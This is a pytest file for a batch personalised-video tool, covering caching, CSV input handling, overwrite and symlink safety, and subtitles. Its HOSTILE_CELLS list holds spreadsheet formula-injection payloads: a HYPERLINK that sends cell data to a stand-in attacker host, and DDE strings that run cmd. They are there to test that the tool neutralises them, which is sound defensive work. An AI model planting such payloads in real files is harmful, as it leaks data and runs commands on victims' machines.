import csv
import os

import numpy as np
import pytest
from sqlmodel import select

from reelchat import store
from reelchat.errors import InputFileError
from reelchat.generation.animatic import AnimaticBackend
from reelchat.generation.batch import read_people, run_batch
from reelchat.generation.media import read_frame
from reelchat.generation.stitch import StitchOptions
from reelchat.storyboard.variables import templatise
from tests.conftest import make_storyboard

QUIET = StitchOptions(captions=False, narration=False)


def _template():
    board = make_storyboard(5)
    shots = list(board.shots)
    shots[2] = shots[2].model_copy(update={"prompt": "Ana waving in front of the office"})
    shots[4] = shots[4].model_copy(update={"narration": "See you Monday, Ana!"})
    return templatise(board.model_copy(update={"shots": shots}), {"Ana": "name"})


def _rendered_shots(workspace):
    with store.transaction(workspace.engine) as db:
        rows = db.exec(select(store.JobShot)).all()
    return sum(row.status == "rendered" for row in rows)


def test_twenty_people_render_the_shared_shots_once(workspace, tmp_path):
    people = [{"name": f"Person{n}"} for n in range(20)]
    results = run_batch(workspace, AnimaticBackend(), _template(), people,
                        out_dir=tmp_path / "out", options=QUIET)  # fmt: skip
    assert [r.status for r in results] == ["done"] * 20
    assert _rendered_shots(workspace) == 5 + 19
    assert [r.rendered for r in results] == [5] + [1] * 19

    first, second = results[0].output, results[1].output
    personal = (2 * 8 + 4) / 8  # the middle of shot 3, in seconds
    shared = 0.5
    differ = np.abs(read_frame(first, personal).astype(int) - read_frame(second, personal)).mean()
    same = np.abs(read_frame(first, shared).astype(int) - read_frame(second, shared)).mean()
    assert differ > 3 and same < 0.5
    report = list(csv.DictReader((tmp_path / "out" / "results.csv").open()))
    assert report[0]["video"] == "person-0001.mp4" and report[0]["name"] == "Person0"


def test_bad_rows_are_reported_and_the_rest_go_on_and_reruns_skip_finished_people(
    workspace, tmp_path
):
    people = [{"name": "Ana"}, {"name": ""}, {"nom": "Bo"}, {"name": "Cy"}]
    template = _template()  # the same template, as when the same JSON file is given again
    results = run_batch(workspace, AnimaticBackend(), template, people,
                        out_dir=tmp_path / "out", options=QUIET)  # fmt: skip
    assert [r.status for r in results] == ["done", "failed", "failed", "done"]
    assert "no value for {name}" in results[1].error
    assert "missing value for {name}" in results[2].error

    again = run_batch(workspace, AnimaticBackend(), template, people,
                      out_dir=tmp_path / "out", options=QUIET)  # fmt: skip
    assert [r.status for r in again] == ["skipped", "failed", "failed", "skipped"]
    assert sum(r.rendered for r in again) == 0


def test_people_csv_errors(tmp_path):
    with pytest.raises(InputFileError, match="not found"):
        read_people(tmp_path / "missing.csv")
    empty = tmp_path / "empty.csv"
    empty.write_text("name,team\n")
    with pytest.raises(InputFileError, match="no people"):
        read_people(empty)
    good = tmp_path / "people.csv"
    good.write_text("name , team\n Priya ,Design\n")
    assert read_people(good) == [{"name": "Priya", "team": "Design"}]


def test_a_person_who_moved_rows_gets_their_own_video(workspace, tmp_path):
    template = _template()
    out = tmp_path / "out"
    first = run_batch(workspace, AnimaticBackend(), template, [{"name": "Alice"}, {"name": "Bob"}],
                      out_dir=out, options=QUIET)  # fmt: skip
    alice = read_frame(first[0].output, 2.5)
    again = run_batch(workspace, AnimaticBackend(), template,
                      [{"name": "Carol"}, {"name": "Alice"}, {"name": "Bob"}],
                      out_dir=out, options=QUIET)  # fmt: skip
    assert [r.status for r in again] == ["done", "done", "done"]
    assert [r.rendered for r in again] == [1, 0, 0]  # Alice and Bob come from the clip cache
    assert np.abs(read_frame(again[1].output, 2.5).astype(int) - alice).mean() < 0.5


# --- issue 17: files people bring, and results.csv that never runs or escapes ---------------

PEOPLE = [("José", "Diseño"), ("Anna", "R&D"), ("Smith, Jr.", "Sales")]


def _small_template():
    """One shot whose only variable is in the narration (not rendered here): one clip for all."""
    board = make_storyboard(1)
    shot = board.shots[0].model_copy(update={"narration": "Hello Ana"})
    return templatise(board.model_copy(update={"shots": [shot]}), {"Ana": "name"})


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("utf-8", ";"), ("cp1252", ","), ("cp1252", ";"), ("utf-16", "\t"), ("utf-8-sig", ","),
     ("utf-8", "|"), ("utf-32", ",")],
)  # fmt: skip
def test_people_csv_from_any_spreadsheet_dialect_and_encoding(tmp_path, encoding, delimiter):
    path = tmp_path / "people.csv"
    with path.open("w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(["name", "team"])
        writer.writerows(PEOPLE)
        writer.writerow(["", ""])  # the empty rows spreadsheets leave at the end
    assert read_people(path) == [{"name": n, "team": t} for n, t in PEOPLE]


def test_people_file_that_is_not_text_is_refused_in_one_sentence(tmp_path):
    path = tmp_path / "people.csv"
    path.write_bytes(bytes(range(256)) * 8)
    with pytest.raises(InputFileError, match="save it from your spreadsheet as 'CSV UTF-8"):
        read_people(path)


HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&B3,"Open")', "=cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1"]  # fmt: skip


def test_results_csv_neutralises_formula_prefixes(workspace, tmp_path):
    people = [{"name": cell, "team": cell} for cell in HOSTILE_CELLS]
    out = tmp_path / "out"
    run_batch(workspace, AnimaticBackend(), _small_template(), people, out_dir=out,
              options=StitchOptions(captions=False, narration=False))  # fmt: skip
    with (out / "results.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert {row[-2] for row in rows[1:]} == {"'" + cell for cell in HOSTILE_CELLS}


def test_batch_never_writes_through_a_symlink(workspace, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    victim, victim_video = tmp_path / "victim.conf", tmp_path / "victim.bin"
    victim.write_text("victim config")
    victim_video.write_text("victim 2")
    (out / "results.csv").symlink_to(victim)
    (out / "person-0001.mp4").symlink_to(victim_video)
    people = [{"name": "Ann"}]
    with pytest.raises(InputFileError, match="another batch"):  # a video this batch did not make
        run_batch(workspace, AnimaticBackend(), _small_template(), people, out_dir=out,
                  options=QUIET)  # fmt: skip
    (out / "person-0001.mp4").unlink()
    results = run_batch(workspace, AnimaticBackend(), _small_template(), people, out_dir=out,
                        options=QUIET)  # fmt: skip
    assert [r.status for r in results] == ["done"]
    assert victim.read_text() == "victim config" and victim_video.read_text() == "victim 2"
    assert not (out / "results.csv").is_symlink() and not (out / "person-0001.mp4").is_symlink()
    assert (out / "person-0001.mp4").stat().st_size > 1000


def test_a_folder_holding_another_batchs_videos_is_refused_before_anything_renders(
    workspace, tmp_path
):
    """A second batch (another template) into the first one's folder would replace its
    person-0001.mp4 and results.csv: refused in one sentence, nothing rendered or changed."""
    out = tmp_path / "batch_out"
    template = _template()  # one object: the same JSON file given again
    run_batch(workspace, AnimaticBackend(), template, [{"name": "Ana"}, {"name": "Bo"}],
              out_dir=out, options=QUIET)  # fmt: skip
    before = {path.name: path.read_bytes() for path in out.iterdir()}
    rendered = _rendered_shots(workspace)
    sessions = len(store.list_sessions(workspace.engine))
    with pytest.raises(InputFileError) as refused:
        run_batch(workspace, AnimaticBackend(), _small_template(), [{"name": "Cy"}],
                  out_dir=out, options=QUIET)  # fmt: skip
    message = str(refused.value)
    assert str(out) in message and "person-0001.mp4, person-0002.mp4" in message
    assert "--out-dir" in message
    assert {path.name: path.read_bytes() for path in out.iterdir()} == before
    assert _rendered_shots(workspace) == rendered
    assert len(store.list_sessions(workspace.engine)) == sessions
    # the same batch again is no stranger to its own folder: it skips who is done
    again = run_batch(workspace, AnimaticBackend(), template, [{"name": "Ana"}, {"name": "Bo"}],
                      out_dir=out, options=QUIET)  # fmt: skip
    assert [r.status for r in again] == ["skipped", "skipped"]


def test_a_video_the_person_put_in_the_folder_is_never_overwritten(workspace, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "person-0001.mp4").write_bytes(b"someone's own video")
    with pytest.raises(InputFileError, match="person-0001.mp4"):
        run_batch(workspace, AnimaticBackend(), _small_template(), [{"name": "Ann"}],
                  out_dir=out, options=QUIET)  # fmt: skip
    assert (out / "person-0001.mp4").read_bytes() == b"someone's own video"


def test_batch_videos_and_results_get_the_usual_permissions(workspace, tmp_path):
    previous = os.umask(0o022)
    try:
        run_batch(workspace, AnimaticBackend(), _small_template(), [{"name": "Ann"}],
                  out_dir=tmp_path / "out", options=QUIET)  # fmt: skip
    finally:
        os.umask(previous)
    modes = {path.name: path.stat().st_mode & 0o777 for path in (tmp_path / "out").iterdir()}
    assert set(modes.values()) == {0o644}
    assert {"person-0001.mp4", "results.csv"} <= set(modes) <= {
        "person-0001.mp4", "person-0001.srt", "person-0001.vtt", "results.csv"
    }


def test_each_persons_video_has_its_own_subtitles_beside_it_as_make_writes_them(
    workspace, tmp_path
):
    people = [{"name": "Ana"}, {"name": "Bo"}]
    results = run_batch(workspace, AnimaticBackend(), _template(), people,
                        out_dir=tmp_path / "out", options=QUIET)  # fmt: skip
    assert [r.status for r in results] == ["done", "done"]
    for result, name in zip(results, ("Ana", "Bo"), strict=True):
        for kind in ("srt", "vtt"):
            text = result.output.with_suffix(f".{kind}").read_text(encoding="utf-8")
            assert f"See you Monday, {name}!" in text
